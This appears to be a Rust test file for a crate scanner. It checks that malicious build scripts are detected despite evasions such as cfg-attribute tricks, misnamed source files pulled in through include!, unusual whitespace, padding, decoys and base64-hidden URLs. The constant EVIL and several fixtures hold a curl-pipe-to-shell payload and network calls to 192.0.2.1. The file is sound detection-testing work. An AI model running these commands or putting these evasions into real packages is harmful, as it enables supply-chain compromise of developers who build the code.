//! Small rewrites of one attack, each of which once passed: all of them are found.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on says where")]

use std::fmt::Write as _;

use fence_scan::{File, Package, Severity, scan};

const EVIL: &str = "let _ = std::process::Command::new(\"sh\").args([\"-c\", \"curl -s http://192.0.2.1/x | sh\"]).status();";

fn gravest(files: &[(&str, &str)]) -> Severity {
    let mut files: Vec<File> = files
        .iter()
        .map(|(path, text)| File { path: (*path).to_owned(), bytes: text.as_bytes().to_vec() })
        .collect();
    if files.iter().all(|file| file.path != "Cargo.toml") {
        files.push(File {
            path: "Cargo.toml".to_owned(),
            bytes: b"[package]\nname = \"a\"\nversion = \"1.0.0\"\n".to_vec(),
        });
    }
    files.push(File { path: "src/lib.rs".to_owned(), bytes: b"//! Nothing.\n".to_vec() });
    scan(&Package::of(files)).gravest()
}

fn found(what: &str, files: &[(&str, &str)]) {
    let severity = gravest(files);
    assert!(severity >= Severity::Medium, "{what}: {severity:?}");
}

#[test]
fn attributes_make_no_test_of_what_is_built() {
    for attribute in [
        "#[cfg_attr(test, allow(dead_code))]",
        "#[cfg(any(test, unix))]",
        "#[cfg(not(test))]",
        "#![cfg_attr(test, allow(x))]",
        "struct S { #[cfg(test)] a: u8 }",
        "#[cfg(feature = \"test\")]",
    ] {
        found(attribute, &[("build.rs", &format!("{attribute}\nfn main() {{ {EVIL} }}"))]);
    }
    let quiet =
        gravest(&[("build.rs", &format!("fn main() {{}}\n#[cfg(all(test, unix))] fn f() {{ {EVIL} }}"))]);
    assert!(quiet <= Severity::Low, "nobody who depends on it runs that: {quiet:?}");
}

#[test]
fn code_is_read_whatever_its_file_is_called_and_however_it_comes_in() {
    let code = format!("fn main() {{ {EVIL} }}");
    let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\nbuild = \"assets/notes.txt\"\n";
    found("a root without .rs", &[("Cargo.toml", manifest), ("assets/notes.txt", &code)]);
    let twice = "#[cfg_attr(all(), path = \"assets/x.rs\")]\n#[cfg_attr(any(), path = \"x.rs\")]\nmod x;\nfn main() { x::main() }";
    found(
        "two paths",
        &[("build.rs", twice), ("assets/x.rs", &format!("pub {code}")), ("x.rs", "pub fn main() {}")],
    );
    let named =
        "macro_rules! m { ($p:literal) => { include!($p); } }\nm!(\"../assets/logo.png\");\nfn main() {}";
    found("a name in a macro", &[("build.rs", named), ("assets/logo.png", &code)]);
    let by_name = "include!(concat!(env!(\"CARGO_PKG_NAME\"), \"-logo.png\"));";
    found("a name that cargo says", &[("build.rs", by_name), ("a-logo.png", &code)]);
}

#[test]
fn tokens_are_where_rust_sees_them() {
    found(
        "a comment in an attribute",
        &[("build.rs", &format!("#!/* x */[allow(unused)] fn main() {{ {EVIL} }}"))],
    );
    let spaced = format!(
        "use\u{85}std::process::Command as C;\nfn main() {{ {} }}",
        EVIL.replace("std::process::Command", "C").replace(".status", ".\u{2028}status")
    );
    found("white space beyond ASCII", &[("build.rs", &spaced)]);
}

#[test]
fn what_a_smaller_scope_could_not_decode_a_larger_one_does() {
    // The text is named by a function that turns something around, and by one that has it decoded.
    let code = "const D: &str = \"aHR0cDovLzE5Mi4wLjIuMS94\";\n\
        fn load() { let _ = (D, std::fs::write(\"x\", \"\"), [1].iter().rev()); }\n\
        pub fn go() { load(); let _ = std::net::TcpStream::connect(base64::decode(D)); }\n";
    let manifest = b"[package]\nname = \"a\"\nversion = \"1.0.0\"\n".to_vec();
    let file = |path: &str, bytes: Vec<u8>| File { path: path.to_owned(), bytes };
    let report = scan(&Package::of([file("Cargo.toml", manifest), file("src/lib.rs", code.into())]));
    let hidden = report.findings.iter().find(|finding| finding.code == "hidden-text");
    assert!(hidden.is_some_and(|finding| finding.reason.contains("http://192.0.2.1/x")), "{hidden:?}");
}

#[test]
fn a_text_beside_programs_is_no_program() {
    let quiet = gravest(&[("src/bin/README.md", "# Programs"), ("src/bin/a.rs", "fn main() {}")]);
    assert!(quiet <= Severity::Low, "{quiet:?}");
}

#[test]
fn padding_and_decoys_hide_nothing() {
    let mut padded = String::new();
    for number in 0..60 {
        writeln!(
            padded,
            "fn a{number}(x: u32) -> u32 {{ let mut y = x; {} y }}",
            "y = y.rotate_left(3) + 7 * x;".repeat(20)
        )
        .unwrap();
    }
    let calls: String = (0..60).map(|number| format!("a{number}(1);")).collect();
    found("padding", &[("build.rs", &format!("{padded}\nfn main() {{ {EVIL} {calls} }}"))]);
    let decoys: String = (0..6).map(|number| format!("#[cfg(any())] use x{number}::Command;\n")).collect();
    let code = EVIL.replace("std::process::Command", "Command");
    found("decoys", &[("build.rs", &format!("{decoys}use std::process::Command;\nfn main() {{ {code} }}"))]);
    let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\n[build-dependencies]\nureq = \"3\"\n";
    let shadow = "#[cfg(any())] mod ureq {}\nfn main() { let _ = ::ureq::get(\"http://192.0.2.1\").call(); }";
    found("a module of a dependency's name", &[("Cargo.toml", manifest), ("build.rs", shadow)]);
}
